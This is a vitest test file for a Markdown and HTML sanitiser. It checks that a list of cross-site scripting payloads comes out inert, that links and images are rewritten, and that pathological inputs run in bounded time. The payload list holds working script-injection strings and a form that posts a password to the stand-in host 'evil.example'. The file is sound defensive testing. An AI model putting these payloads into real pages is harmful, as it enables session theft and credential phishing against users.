import { describe, expect, test } from "vitest";
import { htmlToText, markdownToHtml, plainToHtml, sanitiseHtml } from "./html";

const attacks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href=' java\nscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<form action='https://evil.example'><input name=password><button>go</button></form>",
  "<p style='background:url(https://evil.example)'>x</p>",
  "<p onclick=alert(1) id=main class=button>x</p>",
  "<base href='https://evil.example'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href='https://evil.example/x.css'>",
  "<video src='https://evil.example/x.mp4' autoplay></video>",
  "<object data='https://evil.example/x.swf'></object>",
  "[x](javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[a]: javascript:alert(1)\n\n[a]",
  '[x](https://e.example "onmouseover=alert(1)")',
  "`</code><script>alert(1)</script>`",
];

const harmful =
  /<(script|svg|math|iframe|img|form|input|button|style|base|meta|link|video|object|noscript)|href="?(javascript|data|vbscript)|\s(on\w+|style|id|class|src)=(?!.*<\/code>)/i;

describe("text that people write", () => {
  test.each(attacks)("W2 %s is inert, as Markdown and as HTML from elsewhere", (attack) => {
    for (const html of [markdownToHtml(attack), sanitiseHtml(attack), sanitiseHtml(sanitiseHtml(attack))]) {
      expect(html.replace(/title="[^"]*"/g, "").replace(/>[^<]*</g, "><")).not.toMatch(harmful);
    }
  });

  test("W3 brackets, stars and quotes nested without end cost no more than as many words", () => {
    const costOf = (text: string) => {
      const before = process.cpuUsage();
      markdownToHtml(text);
      const { user, system } = process.cpuUsage(before);
      return user + system;
    };
    markdownToHtml("warm ".repeat(4000));
    const words = costOf("word ".repeat(4000));
    for (const knot of ["[", "*", "> ", "![", "`", "<a ", "_a ", "[a](", "|", "- "])
      expect(costOf(knot.repeat(20_000 / knot.length)), knot).toBeLessThan(50 * words + 2_000_000);
  });

  test("headings, lists, tables and links stay, and no link vouches for where it leads", () => {
    const html = markdownToHtml("# Bal\n\n- **gratuit**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n<https://example.org>");
    expect(html).toContain("<h2>Bal</h2>");
    expect(html).toContain("<strong>gratuit</strong>");
    expect(html).toContain("<td>2</td>");
    expect(html).toContain('<a href="https://example.org" rel="nofollow noopener ugc">https://example.org</a>');
  });

  test("U7 a picture from elsewhere becomes a link, so that reading asks no other server", () => {
    expect(markdownToHtml("![plan](https://elsewhere.example/p.png)")).toBe(
      '<p><a href="https://elsewhere.example/p.png" rel="nofollow noopener ugc">plan</a></p>',
    );
    expect(sanitiseHtml('<img src="https://elsewhere.example/p.png" alt="plan">')).toContain(">plan</a>");
  });

  test("a relative link of another server does not lead to a page of ours", () => {
    expect(sanitiseHtml('<a href="/admin">x</a><a href="//evil.example">y</a>')).toBe("<span>x</span><span>y</span>");
  });

  test("NUL, lone surrogates and marks that reverse the direction are dropped", () => {
    expect(markdownToHtml("a\u0000b\uD800c\u202Ed")).toBe("<p>ab\uFFFDcd</p>");
  });

  test.each([
    "[",
    "*",
    "*a ",
    "*a*a",
    "~~a",
    "[a](",
    "> ",
    "- ",
    "_a",
    "`a``",
    "<a ",
    "<b>",
    "|",
    "[![",
    "a@b.",
    "[^a]",
    "<a href=x>",
    "&",
  ])("a megabyte of %s is done quickly", (part) => {
    markdownToHtml("warm");
    const text = part.repeat(1_000_000 / part.length);
    const start = process.cpuUsage();
    markdownToHtml(text);
    sanitiseHtml(text);
    const used = process.cpuUsage(start);
    // 100 ms where nothing else runs; what grows with the square of the length takes minutes.
    expect((used.user + used.system) / 1000).toBeLessThan(2000);
  });

  test("plain text keeps its paragraphs and lines", () => {
    expect(plainToHtml("a <b>\nc\n\nd")).toBe("<p>a &#60;b&#62;<br>c</p>\n<p>d</p>");
  });

  test("the words of safe HTML come back", () => {
    expect(htmlToText("<p>Fête &#x26; bal<br>ici</p>\n<ul><li>un</li></ul>")).toBe("Fête & bal\nici\n\nun");
  });
});
